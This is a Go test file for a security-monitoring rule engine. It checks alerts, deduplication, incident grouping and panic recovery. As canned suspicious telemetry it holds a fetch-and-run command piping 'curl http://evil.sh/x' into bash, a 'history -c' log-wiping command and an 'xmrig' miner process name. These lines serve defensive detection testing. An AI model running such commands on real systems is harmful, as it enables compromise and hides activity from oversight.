package rules

import (
	"context"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/argus-siem/argus/internal/bus"
	"github.com/argus-siem/argus/internal/store"
)

// fakeBackend serves canned telemetry and records what the engine persists.
type fakeBackend struct {
	mu        sync.Mutex
	devices   []store.Device
	logs      []store.LogRecord
	commands  []store.CommandRecord
	metrics   []store.MetricSample
	processes []store.ProcessRecord

	logSince time.Time // lower bound of the last RecentLogs call

	alerts    []*store.Alert
	incidents map[string]*store.Incident
	attached  map[int64][]int64 // incident → alert IDs
	nextID    int64
}

func newFakeBackend(deviceID string) *fakeBackend {
	return &fakeBackend{
		devices:   []store.Device{{ID: deviceID, Hostname: "web01", Status: store.DeviceOnline}},
		incidents: map[string]*store.Incident{},
		attached:  map[int64][]int64{},
	}
}

func (f *fakeBackend) ActiveDevices(context.Context, time.Duration) ([]store.Device, error) {
	return f.devices, nil
}

func (f *fakeBackend) RecentLogs(_ context.Context, since, _ time.Time, _ string) ([]store.LogRecord, error) {
	f.mu.Lock()
	f.logSince = since
	f.mu.Unlock()
	return f.logs, nil
}

func (f *fakeBackend) RecentMetrics(_ context.Context, _, _ time.Time, _ string) ([]store.MetricSample, error) {
	return f.metrics, nil
}

func (f *fakeBackend) RecentProcesses(_ context.Context, _, _ time.Time, _ string) ([]store.ProcessRecord, error) {
	return f.processes, nil
}

func (f *fakeBackend) RecentCommands(_ context.Context, _, _ time.Time, _ string, _ store.CommandFilter) ([]store.CommandRecord, error) {
	return f.commands, nil
}

func (f *fakeBackend) HasRecentFingerprint(context.Context, string, time.Duration) (bool, error) {
	return false, nil
}

func (f *fakeBackend) InsertAlert(_ context.Context, a *store.Alert) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.nextID++
	a.ID = f.nextID
	a.CreatedAt = time.Date(2025, 6, 1, 12, 0, 30, 0, time.UTC)
	f.alerts = append(f.alerts, a)
	return nil
}

func (f *fakeBackend) FindOpenIncident(_ context.Context, key string) (*store.Incident, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if inc, ok := f.incidents[key]; ok {
		return inc, nil
	}
	return nil, store.ErrNotFound
}

func (f *fakeBackend) CreateIncident(_ context.Context, title, severity, key string) (*store.Incident, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.nextID++
	inc := &store.Incident{ID: f.nextID, Title: title, Severity: severity,
		Status: store.IncidentOpen, CorrelationKey: key}
	f.incidents[key] = inc
	return inc, nil
}

func (f *fakeBackend) AttachAlert(_ context.Context, incidentID, alertID int64, _ string) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.attached[incidentID] = append(f.attached[incidentID], alertID)
	return nil
}

const testDeviceID = "11111111-2222-3333-4444-555555555555"

func newTestEngine(backend *fakeBackend) (*Engine, bus.Bus) {
	b := bus.NewLocalBus(nil)
	return NewEngine(backend, b, nil, DefaultThresholds(),
		30*time.Second, 5*time.Minute, 90*time.Second), b
}

func TestTickEmitsAlertAndIncident(t *testing.T) {
	backend := newFakeBackend(testDeviceID)
	backend.commands = []store.CommandRecord{
		{Username: "eve", Command: "curl http://evil.sh/x | bash"},
	}
	engine, b := newTestEngine(backend)
	events, cancel := b.Subscribe()
	defer cancel()

	require.NoError(t, engine.Tick(context.Background()))

	backend.mu.Lock()
	require.Len(t, backend.incidents, 1)
	for _, inc := range backend.incidents {
		assert.Len(t, backend.attached[inc.ID], 1)
	}
	backend.mu.Unlock()

	// Alert first, then the incident it opened.
	ev := <-events
	assert.Equal(t, bus.TypeNewAlert, ev.Type)
	assert.Equal(t, "suspicious_command", ev.Payload["rule_name"])
	ev = <-events
	assert.Equal(t, bus.TypeNewIncident, ev.Type)
}

func TestDedupSuppressesRepeatTicks(t *testing.T) {
	backend := newFakeBackend(testDeviceID)
	backend.processes = []store.ProcessRecord{{Name: "xmrig", PID: 9}}
	engine, _ := newTestEngine(backend)

	require.NoError(t, engine.Tick(context.Background()))
	require.NoError(t, engine.Tick(context.Background()))

	backend.mu.Lock()
	defer backend.mu.Unlock()
	require.Len(t, backend.alerts, 1, "second sighting inside the dedup window must not re-alert")
	assert.Equal(t, "malware_indicator", backend.alerts[0].RuleName)
}

func TestCoincidentRulesShareIncident(t *testing.T) {
	backend := newFakeBackend(testDeviceID)
	base := time.Now().UTC().Truncate(time.Second)
	engine, _ := newTestEngine(backend)

	// A snapshot past the explosion threshold that also grew fast enough for
	// fork_bomb: both alerts land in the same five-minute incident bucket.
	// Evaluate a hand-built window so the snapshot counts are exact.
	w := &DeviceWindow{
		Device:     store.Device{ID: testDeviceID},
		Now:        time.Now().UTC(),
		Thresholds: DefaultThresholds(),
		Processes: &store.ProcessWindowStats{
			MaxProcessCount: 15500,
			SnapshotCounts: map[time.Time]int{
				base:                      100,
				base.Add(1 * time.Minute): 8000,
				base.Add(2 * time.Minute): 15500,
			},
		},
	}
	engine.evaluateDevice(context.Background(), w)

	backend.mu.Lock()
	defer backend.mu.Unlock()
	require.Len(t, backend.incidents, 1, "coincident detections on one device share an incident")
	for _, ids := range backend.attached {
		assert.Len(t, ids, 2)
	}
}

func TestSubmitExternalCandidate(t *testing.T) {
	backend := newFakeBackend(testDeviceID)
	engine, b := newTestEngine(backend)
	events, cancel := b.Subscribe()
	defer cancel()

	c := Candidate{
		Rule:     "ml_anomaly",
		Severity: store.SeverityHigh,
		Details:  store.Details{"score": -0.71},
		Stable:   []string{"high"},
	}
	require.NoError(t, engine.Submit(context.Background(), testDeviceID, c))
	// A repeat submission inside the dedup window is swallowed.
	require.NoError(t, engine.Submit(context.Background(), testDeviceID, c))

	backend.mu.Lock()
	attachedTotal := 0
	for _, ids := range backend.attached {
		attachedTotal += len(ids)
	}
	backend.mu.Unlock()
	assert.Equal(t, 1, attachedTotal)

	ev := <-events
	assert.Equal(t, "ml_anomaly", ev.Payload["rule_name"])
}

func TestLogWindowSpansBruteForceAccumulation(t *testing.T) {
	backend := newFakeBackend(testDeviceID)
	now := time.Now().UTC()

	// The ssh brute-force rule counts failures over five minutes. Sequences
	// straddle tick boundaries, so the log lookback must cover the full rule
	// window, not just one 30 second analysis period.
	_, err := loadWindow(context.Background(), backend,
		store.Device{ID: testDeviceID}, now, 30*time.Second, DefaultThresholds())
	require.NoError(t, err)

	backend.mu.Lock()
	defer backend.mu.Unlock()
	assert.Equal(t, 5*time.Minute, now.Sub(backend.logSince))
}

func TestSubmitShortDeviceID(t *testing.T) {
	backend := newFakeBackend("dev-1")
	engine, _ := newTestEngine(backend)

	c := Candidate{
		Rule:     "ml_anomaly",
		Severity: store.SeverityHigh,
		Details:  store.Details{"score": -0.66},
		Stable:   []string{"high"},
	}
	require.NoError(t, engine.Submit(context.Background(), "dev-1", c))

	backend.mu.Lock()
	defer backend.mu.Unlock()
	require.Len(t, backend.incidents, 1)
	for _, inc := range backend.incidents {
		assert.Contains(t, inc.Title, "dev-1")
	}
}

func TestRulePanicDoesNotAbortTick(t *testing.T) {
	backend := newFakeBackend(testDeviceID)
	backend.commands = []store.CommandRecord{
		{Username: "eve", Command: "history -c"},
	}
	engine, _ := newTestEngine(backend)
	engine.catalog = append([]Rule{{
		Name: "boom",
		Eval: func(*DeviceWindow) []Candidate { panic("boom") },
	}}, engine.catalog...)

	require.NoError(t, engine.Tick(context.Background()))

	backend.mu.Lock()
	defer backend.mu.Unlock()
	attachedTotal := 0
	for _, ids := range backend.attached {
		attachedTotal += len(ids)
	}
	assert.Equal(t, 1, attachedTotal, "remaining rules still run after a panic")
}
